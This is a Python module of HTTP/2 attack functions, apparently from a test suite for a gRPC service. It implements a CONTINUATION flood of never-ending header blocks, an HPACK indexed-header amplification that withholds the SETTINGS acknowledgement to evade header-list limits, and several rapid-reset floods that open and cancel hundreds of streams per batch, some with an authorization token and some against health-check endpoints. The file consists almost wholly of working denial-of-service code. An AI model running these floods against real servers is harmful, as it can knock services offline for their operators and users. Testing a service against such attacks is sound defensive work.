"""Attacks with HTTP/2 frames: endless header blocks, and streams that are reset immediately."""

import time

import http2
from attacker import HEALTH_CHECK, HEALTH_WATCH, RERANK, flood, healthy_call, nothing
from http2 import CANCEL, CONTINUATION, DATA, END_HEADERS, HEADERS, RST_STREAM, frame


def continuation_flood(attacker, before=nothing):
    """Sends a header block that never ends, in frames of 16 KiB."""
    fields = http2.hpack_literal("abcd", "efgh") * (16000 // 12)
    batch = frame(CONTINUATION, 0, 3, fields) * 8

    def begin(connection):
        before(connection)
        connection.send(frame(HEADERS, 0, 3, http2.grpc_header_block(RERANK)))

    def more(connection):
        connection.send(batch)
        return len(batch)

    return flood(attacker, begin, more)


def continuation_flood_after_health(attacker):
    """Sends an endless header block, on a connection on which an earlier call was answered."""
    return continuation_flood(attacker, healthy_call)


def indexed_headers(attacker):
    """Sends header blocks that refer to one stored field hundreds of thousands of times. Does not acknowledge the
    server's SETTINGS, which limit the size of header lists."""
    block = http2.grpc_header_block(HEALTH_WATCH) + http2.hpack_literal("a", "v", indexed=True) + b"\xbe" * 400_000
    sent, connections = 0, 0
    while attacker.running():
        connection = attacker.connect(acknowledge=False)
        if connection is None:
            continue
        connections += 1
        try:
            for stream in range(1, 200, 2):
                if not attacker.running() or not connection.pump():
                    break
                connection.send_headers(stream, block)
                connection.send(frame(DATA, 0, stream, http2.grpc_prefix(0)))
                sent += len(block)
            while attacker.running() and connection.pump(0.1):
                pass
        except OSError:
            pass
        connection.close()
        time.sleep(0.01)
    return {"sent_bytes": sent, "connections": connections}


def rapid_resets(attacker, path=RERANK, extra=(), before=nothing):
    """Cancels calls as soon as they have begun."""
    block = http2.grpc_header_block(path, extra)

    def begin(connection):
        before(connection)
        connection.next_stream = 3

    def more(connection):
        batch = bytearray()
        for _ in range(200):
            stream = connection.next_stream
            connection.next_stream += 2
            batch += frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, CANCEL)
        connection.send(bytes(batch))
        return len(batch)

    return flood(attacker, begin, more)


def rapid_resets_with_token(attacker):
    """Cancels calls as a known client as soon as they have begun."""
    return rapid_resets(attacker, extra=attacker.authorization())


def rapid_resets_of_health(attacker):
    """Cancels calls that need no token as soon as they have begun."""
    return rapid_resets(attacker, HEALTH_CHECK, before=healthy_call)
